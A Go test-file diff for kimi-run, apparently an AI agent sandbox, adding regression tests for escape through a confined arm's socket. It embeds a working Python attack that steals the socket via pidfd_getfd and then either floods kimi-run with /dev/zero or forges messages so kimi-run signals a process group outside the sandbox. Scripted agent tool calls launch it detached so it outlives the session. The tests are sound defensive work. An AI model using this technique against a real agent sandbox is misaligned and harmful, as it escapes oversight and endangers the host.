@@ -15,6 +15,7 @@ import (
 	"path/filepath"
 	"strconv"
 	"strings"
+	"syscall"
 	"testing"
 
 	"github.com/kimi-run/kimi-run/internal/launch"
@@ -287,4 +288,136 @@ func TestStoppedArmDoesNotHoldTheRun(t *testing.T) {
 	if out, _ := res["next"]["output"].(string); !strings.Contains(out, "next") {
 		t.Errorf("the call after it: %v", res["next"])
 	}
+}
+
+// armSocketAttack is a root command's attack on its confined arm, which shares its
+// Landlock domain: it takes the arm's socket to kimi-run (pidfd_getfd; root may, though
+// the arm is not dumpable) and then, as "body", sends kimi-run a message whose body is
+// /dev/zero and reports kimi-run's peak memory once kimi-run has closed the link; or, as
+// "forge", stops the arm, reports its own call ended, and answers the next start with
+// the number of a zombie outside the sandbox, whose group kimi-run would then signal.
+const armSocketAttack = `
+import array, ctypes, json, os, select, signal, socket, sys
+libc = ctypes.CDLL(None, use_errno=True)
+mode, shell = sys.argv[1], int(sys.argv[2])
+stat = lambda p: open("/proc/%d/stat" % p).read().rsplit(")", 1)[1].split()
+arm = int(stat(shell)[1])
+kimi = int(stat(int(stat(arm)[1]))[1])
+pfd, s = os.pidfd_open(arm), None
+for n in range(64):
+    f = libc.syscall(438, pfd, n, 0)
+    if f < 0:
+        continue
+    try:
+        t = socket.socket(fileno=f)
+        if t.type == socket.SOCK_SEQPACKET:
+            s = t
+            break
+        t.detach()
+    except OSError:
+        pass
+    os.close(f)
+if s is None:
+    print("no socket taken")
+    sys.exit(0)
+def recv():
+    # The descriptor is the arm's, which does not block; "" once kimi-run closed it.
+    select.select([s], [], [])
+    try:
+        return s.recv(1 << 17)
+    except OSError:
+        return b""
+if mode == "body":
+    z = os.open("/dev/zero", os.O_RDONLY)
+    s.sendmsg([b'{"op":"exit","body":true}'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [z]))])
+    while recv():
+        pass
+    hwm = [l for l in open("/proc/%d/status" % kimi) if l.startswith("VmHWM")][0].split()[1]
+    print("peak", hwm)
+else:
+    os.kill(arm, signal.SIGSTOP)
+    s.send(json.dumps({"op": "exit", "pid": shell, "status": 0}).encode())
+    while True:
+        b = recv()
+        if not b:
+            break
+        m = json.loads(b)
+        if m.get("op") == "start":
+            s.send(json.dumps({"op": "started", "id": m["id"], "pid": int(sys.argv[3])}).encode())
+            break
+`
+
+// TestEscapeThroughTheArmsSocket: root in the sandbox can take the confined arm's socket
+// to kimi-run, or the arm itself, whatever kimi-run does: what kimi-run reads from it
+// must not cost it unbounded memory (a body of /dev/zero was read up to 1 GiB, 2 GiB of
+// memory), and a process it names must be its child before kimi-run signals its group (a
+// zombie anywhere on the machine passed, and the group it led was signalled).
+func TestEscapeThroughTheArmsSocket(t *testing.T) {
+	t.Parallel()
+	needLandlock(t, 6)
+	if os.Geteuid() != 0 {
+		t.Skip("only root may take the arm's socket")
+	}
+	if _, err := exec.LookPath("python3"); err != nil {
+		t.Skip("the attack is written in Python")
+	}
+	script := filepath.Join(t.TempDir(), "attack.py")
+	if err := os.WriteFile(script, []byte(armSocketAttack), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Run("body", func(t *testing.T) {
+		t.Parallel()
+		// The attack outlives its call, which ends with the arm; the next call reads what it
+		// found.
+		command := fmt.Sprintf(`setsid sh -c 'python3 %s body $0 > peak.tmp && mv peak.tmp peak.txt' $$ > /dev/null 2>&1 < /dev/null & sleep 30`, script)
+		srv := scripted.New(t,
+			scripted.ToolCalls(scripted.CallID("body", "Shell", fmt.Sprintf(`{"command":%q}`, command))),
+			scripted.ToolCalls(scripted.CallID("next", "Shell", `{"command":"until [ -s peak.txt ]; do sleep 0.05; done; cat peak.txt; echo next"}`)),
+			scripted.Text("done"))
+		r := kimi(t, srv, invocation{proc: true, args: []string{"--output-format", "stream-json", "--sandbox", "workspace-write", "--timeout", "50s", "-p", "x"}})
+		if r.code != 0 {
+			t.Fatalf("exit %d\n%s", r.code, r.stderr)
+		}
+		res := results(events(t, r.stdout))
+		out, _ := res["next"]["output"].(string)
+		var kb int
+		if i := strings.Index(out, "peak "); i >= 0 {
+			fmt.Sscan(out[i+5:], &kb)
+		}
+		if kb == 0 || kb > 256<<10 {
+			t.Errorf("kimi-run's peak memory: %d KiB:\n%s", kb, out)
+		}
+		if out, _ := res["next"]["output"].(string); !strings.Contains(out, "next") {
+			t.Errorf("the call after it: %v", res["next"])
+		}
+	})
+	t.Run("forge", func(t *testing.T) {
+		t.Parallel()
+		// Outside: a group whose leader is a zombie (not reaped yet) and whose member runs.
+		lead := exec.Command("sh", "-c", "sleep 300 & echo $!")
+		lead.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
+		stdout, err := lead.StdoutPipe()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := lead.Start(); err != nil {
+			t.Fatal(err)
+		}
+		var member int
+		fmt.Fscan(stdout, &member)
+		start := testkit.Started(member)
+		t.Cleanup(func() { testkit.Kill(member, start, false); lead.Wait() })
+		command := fmt.Sprintf("setsid python3 %s forge $$ %d > /dev/null 2>&1 < /dev/null & sleep 30", script, lead.Process.Pid)
+		srv := scripted.New(t,
+			scripted.ToolCalls(scripted.CallID("forge", "Shell", fmt.Sprintf(`{"command":%q}`, command))),
+			scripted.ToolCalls(scripted.CallID("next", "Shell", `{"command":"sleep 5","timeout":1}`)),
+			scripted.Text("done"))
+		r := kimi(t, srv, invocation{proc: true, args: []string{"--output-format", "stream-json", "--sandbox", "workspace-write", "--timeout", "50s", "-p", "x"}})
+		if r.code != 0 {
+			t.Fatalf("exit %d\n%s", r.code, r.stderr)
+		}
+		if testkit.ProcessGone(member) {
+			t.Errorf("kimi-run signalled the group of a zombie outside the sandbox a confined arm named")
+		}
+	})
 }
